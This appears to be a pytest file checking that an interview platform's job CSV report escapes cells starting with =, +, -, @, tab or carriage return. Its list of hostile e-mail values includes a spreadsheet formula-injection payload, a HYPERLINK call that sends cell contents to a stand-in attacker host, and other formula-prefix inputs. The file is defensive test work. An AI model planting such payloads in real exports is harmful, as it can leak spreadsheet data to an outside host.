"""A CSV export never hands a spreadsheet a formula: cells starting with = + - @ tab or CR are
written as text (a leading single quote)."""

import csv
import io

from fastapi.testclient import TestClient

from interview_core.db.engine import session_scope
from tests.reports.builders import SKILL_ANSWER, Answer, build, persist
from tests.reports.conftest import ReportWorld

API = "/api/v1"
HOSTILE_EMAILS = [
    '=HYPERLINK("http://evil.example/?d="&A1)@a.bc',
    "+1+cmd@x.io",
    "-2+3@x.io",
    "@SUM(1+1)@x.io",
    "\tx@x.io",
    "\rx@x.io",
]


def test_formula_cells_are_escaped_in_the_job_csv(
    client: TestClient, report_world: ReportWorld
) -> None:
    job = report_world.built.job
    # The e-mail pattern of an invitation accepts the first one: the API takes it as is.
    invited = client.post(
        f"{API}/interviews",
        headers=report_world.recruiter_headers,
        json={"job_id": str(job.id), "candidate_email": HOSTILE_EMAILS[0]},
    )
    assert invited.status_code == 201, invited.text
    with session_scope() as session:
        for email in HOSTILE_EMAILS[1:]:
            persist(
                session,
                build(
                    [Answer("skill", SKILL_ANSWER)],
                    organisation_id=report_world.organisation.id,
                    job=job,
                    candidate_email=email,
                ),
            )
    response = client.get(f"{API}/jobs/{job.id}/report.csv", headers=report_world.recruiter_headers)
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    emails = {row["candidate_email"] for row in rows}
    assert emails >= {"'" + email.lower() for email in HOSTILE_EMAILS[:1]}
    assert emails >= {"'" + email for email in HOSTILE_EMAILS[1:]}
    # Ordinary cells are untouched: the first interview's address and its figures.
    first = next(row for row in rows if row["interview_id"] == report_world.interview_id)
    assert first["candidate_email"] == report_world.candidate.email
    assert not any(
        value.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in rows
        for value in row.values()
        if value
    )
